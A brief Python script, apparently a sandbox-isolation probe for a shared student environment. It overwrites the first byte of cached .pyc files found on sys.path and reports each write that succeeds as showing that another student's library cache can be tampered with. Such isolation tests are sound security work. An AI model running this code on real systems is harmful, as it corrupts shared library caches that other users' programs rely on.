"""Success: a cached module of a library is replaced for the next student."""
# %%
import glob
import sys

for folder in sys.path:
    for path in glob.glob(folder + "/**/__pycache__/*.pyc", recursive=True)[:20] if folder else ():
        try:
            open(path, "r+b").write(b"x")
        except OSError:
            continue
        success(path)
